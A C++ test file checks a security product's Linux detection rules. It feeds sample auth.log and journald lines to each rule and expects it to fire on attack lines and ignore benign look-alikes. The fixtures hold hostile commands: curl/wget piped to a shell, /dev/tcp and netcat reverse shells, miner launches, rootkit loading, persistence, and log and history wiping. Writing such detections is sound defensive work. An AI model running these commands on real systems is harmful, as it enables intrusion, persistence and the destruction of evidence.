// The vm plugin's Linux rule pack (plugins/vm/rules/linux.yaml) through the real rule loader,
// readers and engine: every rule fires on lines that show its behaviour and stays quiet on
// look-alike lines that do not.
#include <catch2/catch.hpp>
#include <map>
#include <regex>
#include <set>

#include "kernel/detect/detect_test_support.h"
#include "support/test_support.h"

using namespace bulwark::detect;

namespace {

std::string packText() {
  return bulwark::test::readFile(bulwark::test::sourceDir() / "plugins" / "vm" / "rules" /
                                 "linux.yaml");
}

struct Example {
  std::string rule;
  std::string format;  // "auth.log" or "journald-json"
  std::string line;
  bool fires;
};

std::string syslogLine(const std::string& tagAndMessage) {
  return "Nov 29 03:00:00 web1 " + tagAndMessage;
}

std::string sudoLine(const std::string& command) {
  return syslogLine("sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=" +
                    command);
}

std::string auditLine(const std::string& record) {
  return syslogLine("audisp-syslog: " + record);
}

std::string journalLine(const std::string& identifier, const std::string& message) {
  return R"({"__REALTIME_TIMESTAMP":"1764385200000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":")" +
         identifier + R"(","_PID":"1","MESSAGE":")" + message + "\"}";
}

const std::vector<Example>& examples() {
  static const std::vector<Example> all = {
      {"linux.ssh.root-login", "auth.log",
       syslogLine("sshd[100]: Accepted publickey for root from 203.0.113.7 port 50022 ssh2"), true},
      {"linux.ssh.root-login", "auth.log",
       syslogLine("sshd[100]: Accepted publickey for alice from 203.0.113.7 port 50022 ssh2"),
       false},
      {"linux.ssh.root-login", "auth.log",
       syslogLine("sshd[100]: Failed password for root from 203.0.113.7 port 50022 ssh2"), false},

      {"linux.root.console-login", "auth.log", syslogLine("login[812]: ROOT LOGIN  on '/dev/tty1'"),
       true},
      {"linux.root.console-login", "auth.log",
       syslogLine("login[812]: pam_unix(login:session): session opened for user alice(uid=1000) "
                  "by LOGIN(uid=0)"),
       false},

      {"linux.account.user-created", "auth.log",
       syslogLine("useradd[4242]: new user: name=backdoor, UID=1001, GID=1001, "
                  "home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0"),
       true},
      {"linux.account.user-created", "auth.log",
       syslogLine("usermod[4250]: change user 'alice' shell from '/bin/sh' to '/bin/bash'"), false},

      {"linux.account.group-created", "auth.log",
       syslogLine("groupadd[4243]: new group: name=devs, GID=1002"), true},
      {"linux.account.group-created", "auth.log",
       syslogLine("groupdel[4244]: group 'devs' removed"), false},

      {"linux.account.added-to-admin-group", "auth.log",
       syslogLine("usermod[4250]: add 'backdoor' to group 'sudo'"), true},
      {"linux.account.added-to-admin-group", "auth.log",
       syslogLine("gpasswd[4251]: user backdoor added by root to group wheel"), true},
      {"linux.account.added-to-admin-group", "auth.log", sudoLine("/usr/sbin/usermod -aG sudo bob"),
       true},
      {"linux.account.added-to-admin-group", "auth.log",
       syslogLine("usermod[4250]: add 'backdoor' to group 'docker'"), false},
      {"linux.account.added-to-admin-group", "auth.log",
       sudoLine("/usr/sbin/usermod -aG audio bob"), false},

      {"linux.ssh.authorized-keys-modified", "auth.log",
       auditLine("type=PATH msg=audit(1764385200.123:812): item=1 "
                 "name=\"/root/.ssh/authorized_keys\" inode=1234 dev=08:01 mode=0100600 ouid=0 "
                 "ogid=0 rdev=00:00 nametype=NORMAL"),
       true},
      {"linux.ssh.authorized-keys-modified", "auth.log",
       auditLine("type=SYSCALL msg=audit(1764385200.123:812): arch=c000003e syscall=257 "
                 "success=yes exit=3 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"authorized_keys\""),
       true},
      {"linux.ssh.authorized-keys-modified", "auth.log",
       sudoLine("/usr/bin/tee -a /root/.ssh/authorized_keys"), true},
      {"linux.ssh.authorized-keys-modified", "auth.log",
       syslogLine("sshd[900]: Authentication refused: bad ownership or modes for file "
                  "/home/bob/.ssh/authorized_keys"),
       false},
      {"linux.ssh.authorized-keys-modified", "auth.log",
       sudoLine("/usr/bin/cat /root/.ssh/authorized_keys"), false},

      {"linux.history.cleared", "auth.log",
       syslogLine("bash[3001]: HISTORY: PID=3001 UID=0 history -c"), true},
      {"linux.history.cleared", "auth.log", sudoLine("/usr/bin/rm -f /root/.bash_history"), true},
      {"linux.history.cleared", "auth.log",
       sudoLine("/usr/bin/truncate -s 0 /home/bob/.bash_history"), true},
      {"linux.history.cleared", "auth.log",
       syslogLine("bash[3001]: HISTORY: PID=3001 UID=0 cat /dev/null > ~/.bash_history"), true},
      {"linux.history.cleared", "auth.log",
       syslogLine("bash[3001]: HISTORY: PID=3001 UID=0 export HISTFILE=/dev/null"), true},
      {"linux.history.cleared", "auth.log", sudoLine("/usr/bin/cat /root/.bash_history"), false},
      {"linux.history.cleared", "auth.log",
       syslogLine("bash[3001]: HISTORY: PID=3001 UID=0 history | tail"), false},

      {"linux.auditd.disabled", "auth.log", syslogLine("auditd[700]: The audit daemon is exiting."),
       true},
      {"linux.auditd.disabled", "journald-json",
       journalLine("systemd", "Stopped Security Auditing Service."), true},
      {"linux.auditd.disabled", "auth.log", sudoLine("/usr/bin/systemctl stop auditd"), true},
      {"linux.auditd.disabled", "auth.log",
       auditLine("type=CONFIG_CHANGE msg=audit(1764385200.5:90): op=set audit_enabled=0 old=1 "
                 "auid=0 ses=3 res=1"),
       true},
      {"linux.auditd.disabled", "auth.log", sudoLine("/usr/sbin/auditctl -D"), true},
      {"linux.auditd.disabled", "auth.log",
       syslogLine("kernel: audit: initializing netlink socket (disabled)"), false},
      {"linux.auditd.disabled", "auth.log",
       syslogLine("kernel: audit: type=2000 audit(0.0:1): state=initialized audit_enabled=0 res=1"),
       false},
      {"linux.auditd.disabled", "auth.log", sudoLine("/usr/bin/systemctl status auditd"), false},

      {"linux.download-and-execute", "auth.log",
       sudoLine("/bin/bash -c curl -fsSL http://198.51.100.9/x.sh | sh"), true},
      {"linux.download-and-execute", "auth.log",
       syslogLine("snoopy[5000]: [uid:33 sid:1 tty:(none) cwd:/tmp filename:/bin/sh]: sh -c "
                  "wget -q -O- http://198.51.100.9/a | bash"),
       true},
      {"linux.download-and-execute", "journald-json",
       journalLine("snoopy",
                   "sh -c curl -o /tmp/.u http://198.51.100.9/u && chmod +x /tmp/.u && /tmp/.u"),
       true},
      {"linux.download-and-execute", "auth.log",
       sudoLine("/usr/bin/curl -o /tmp/pkg.deb https://deb.example.org/pkg.deb"), false},
      {"linux.download-and-execute", "auth.log",
       sudoLine("/usr/bin/wget https://example.org/a.tar.gz"), false},

      {"linux.reverse-shell", "auth.log",
       syslogLine("snoopy[5001]: [uid:33 sid:1 tty:(none) cwd:/tmp filename:/bin/bash]: bash -c "
                  "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
       true},
      {"linux.reverse-shell", "auth.log", sudoLine("/usr/bin/nc -e /bin/sh 198.51.100.9 4444"),
       true},
      {"linux.reverse-shell", "auth.log",
       sudoLine("/usr/bin/python3 -c import pty; pty.spawn('/bin/bash')"), true},
      {"linux.reverse-shell", "auth.log", sudoLine("/usr/bin/nc -zv 10.0.0.5 22"), false},
      {"linux.reverse-shell", "auth.log", sudoLine("/usr/bin/python3 -c print(1)"), false},

      {"linux.cryptominer", "auth.log",
       syslogLine("xmrig[6000]: net use pool pool.example.net:3333 TLSv1.3"), true},
      {"linux.cryptominer", "auth.log",
       sudoLine("/tmp/.x/sysupdate -o stratum+tcp://pool.example.net:3333 -u 4Abc -p x"), true},
      {"linux.cryptominer", "auth.log", sudoLine("/usr/bin/apt install xmlstarlet"), false},
      {"linux.cryptominer", "auth.log", syslogLine("systemd[1]: Started minerva.service."), false},

      {"linux.persistence.cron", "auth.log", syslogLine("crontab[7000]: (root) REPLACE (root)"),
       true},
      {"linux.persistence.cron", "auth.log",
       syslogLine("crontab[7001]: (www-data) END EDIT (www-data)"), true},
      {"linux.persistence.cron", "auth.log",
       sudoLine("/bin/bash -c echo '* * * * * /tmp/x' | crontab -"), true},
      {"linux.persistence.cron", "auth.log", syslogLine("crontab[7000]: (root) LIST (root)"),
       false},
      {"linux.persistence.cron", "auth.log",
       syslogLine("CRON[7100]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)"),
       false},

      {"linux.persistence.systemd", "auth.log",
       sudoLine("/usr/bin/systemctl enable --now backdoor.service"), true},
      {"linux.persistence.systemd", "auth.log",
       auditLine("type=PATH msg=audit(1764385200.9:95): item=1 "
                 "name=\"/etc/systemd/system/evil.service\" inode=77 nametype=CREATE"),
       true},
      {"linux.persistence.systemd", "auth.log", sudoLine("/usr/bin/systemctl status ssh"), false},
      {"linux.persistence.systemd", "auth.log",
       syslogLine("systemd[1]: Started Daily apt upgrade and clean activities."), false},

      {"linux.kernel-module.loaded", "auth.log", sudoLine("/usr/sbin/insmod /tmp/.hidden/rk.ko"),
       true},
      {"linux.kernel-module.loaded", "auth.log",
       syslogLine("kernel: [  512.100000] rk: loading out-of-tree module taints kernel."), true},
      {"linux.kernel-module.loaded", "auth.log", sudoLine("/sbin/modprobe -r pcspkr"), false},
      {"linux.kernel-module.loaded", "auth.log",
       syslogLine("modprobe[300]: modprobe: FATAL: Module foo not found"), false},

      {"linux.logs.cleared", "auth.log", sudoLine("/usr/bin/truncate -s 0 /var/log/auth.log"),
       true},
      {"linux.logs.cleared", "auth.log",
       syslogLine("snoopy[5002]: [uid:0 sid:1 tty:/dev/pts/0 cwd:/root filename:/bin/bash]: bash "
                  "-c cat /dev/null > /var/log/wtmp"),
       true},
      {"linux.logs.cleared", "auth.log", sudoLine("/usr/bin/rm -rf /var/log/apache2"), true},
      {"linux.logs.cleared", "journald-json",
       journalLine("sudo",
                   "alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/journalctl "
                   "--vacuum-time=1s"),
       true},
      {"linux.logs.cleared", "auth.log",
       syslogLine("CRON[7100]: (root) CMD (/usr/local/bin/backup > /var/log/backup.log 2>&1)"),
       false},
      {"linux.logs.cleared", "auth.log", sudoLine("/usr/bin/tail -n 50 /var/log/syslog"), false},
      {"linux.logs.cleared", "auth.log", sudoLine("/bin/bash -c echo ok >> /var/log/custom.log"),
       false},
  };
  return all;
}

}  // namespace

TEST_CASE("the Linux pack loads: every rule has MITRE, a Defender severity and a remediation",
          "[vmrules]") {
  KeyTable keys;
  std::vector<Rule> rules = loadRulesText(packText(), "plugin vm/linux", keys);
  REQUIRE(rules.size() >= 14);
  const std::set<std::string> severities = {"High", "Medium", "Low", "Informational"};
  const std::regex technique(R"(T\d{4}(\.\d{3})?)");
  for (const auto& r : rules) {
    INFO(r.id);
    CHECK(r.id.rfind("linux.", 0) == 0);
    CHECK(severities.count(r.severity) == 1);
    CHECK(!r.tactic.empty());
    CHECK(std::regex_match(r.technique, technique));
    CHECK(!r.remediation.empty());
    CHECK(!r.title.empty());
  }
  // The pack goes with the plugin's SSH pack and the appservice web rules: no id may collide.
  std::vector<Rule> shipped = loadRulesPath(
      (bulwark::test::sourceDir() / "plugins" / "appservice" / "rules").string(), keys);
  for (auto& r : loadRulesPath(bulwark::test::sshRulePack().string(), keys))
    shipped.push_back(std::move(r));
  shipped.insert(shipped.end(), rules.begin(), rules.end());
  CHECK_NOTHROW(checkUniqueRuleIds(shipped));
}

TEST_CASE("every rule of the Linux pack has a line it fires on and a look-alike it ignores",
          "[vmrules]") {
  KeyTable keys;
  std::vector<Rule> rules = loadRulesText(packText(), "plugin vm/linux", keys);
  std::map<std::string, std::pair<int, int>> covered;  // rule -> (positives, negatives)
  for (const auto& r : rules)
    covered[r.id];
  for (const auto& ex : examples()) {
    INFO(ex.rule << (ex.fires ? " should fire on: " : " should ignore: ") << ex.line);
    REQUIRE(covered.count(ex.rule) == 1);
    auto read = bulwark::test::readText(keys, ex.format, ex.line + "\n");
    REQUIRE(read.stats.failed == 0);
    REQUIRE(read.events.size() == 1);
    auto alerts = bulwark::test::runRules(keys, packText(), read.events);
    const Alert* hit = nullptr;
    for (const auto& a : alerts) {
      if (a.ruleId == ex.rule) hit = &a;
    }
    CHECK((hit != nullptr) == ex.fires);
    if (hit != nullptr) {
      CHECK(hit->eventCount == 1);
      CHECK(!hit->tactic.empty());
      REQUIRE(hit->evidence.size() == 1);
      CHECK_THAT(hit->evidence[0], Catch::Contains(ex.format == "auth.log" ? ex.line : "web1"));
    }
    (ex.fires ? covered[ex.rule].first : covered[ex.rule].second)++;
  }
  for (const auto& [id, counts] : covered) {
    INFO(id);
    CHECK(counts.first >= 1);
    CHECK(counts.second >= 1);
  }
}

TEST_CASE("repeated events of one rule on one host merge into one alert", "[vmrules]") {
  KeyTable keys;
  std::string log = syslogLine("useradd[1]: new user: name=a, UID=1001, GID=1001") + "\n" +
                    "Nov 29 03:10:00 web1 useradd[2]: new user: name=b, UID=1002, GID=1002\n" +
                    "Nov 29 03:10:00 web2 useradd[3]: new user: name=c, UID=1003, GID=1003\n";
  auto read = bulwark::test::readText(keys, "auth.log", log);
  auto alerts = bulwark::test::runRules(keys, packText(), read.events);
  std::map<std::string, uint64_t> perHost;
  for (const auto& a : alerts) {
    if (a.ruleId == "linux.account.user-created")
      perHost[bulwark::test::entityValues(a, "host").at(0)] += a.eventCount;
  }
  CHECK(perHost == std::map<std::string, uint64_t>{{"web1", 2}, {"web2", 1}});
}

TEST_CASE("garbage input gives reader failures and no alerts from the pack", "[vmrules]") {
  KeyTable keys;
  std::string garbage = std::string("\x01\x02\xff\xfe not a log line\n") +
                        "Nov 29 03:0\n{\"__REALTIME_TIMESTAMP\": \n";
  for (const std::string format : {"auth.log", "journald-json"}) {
    auto read = bulwark::test::readText(keys, format, garbage);
    CHECK(read.stats.failed >= 2);
    CHECK(bulwark::test::runRules(keys, packText(), read.events).empty());
  }
}
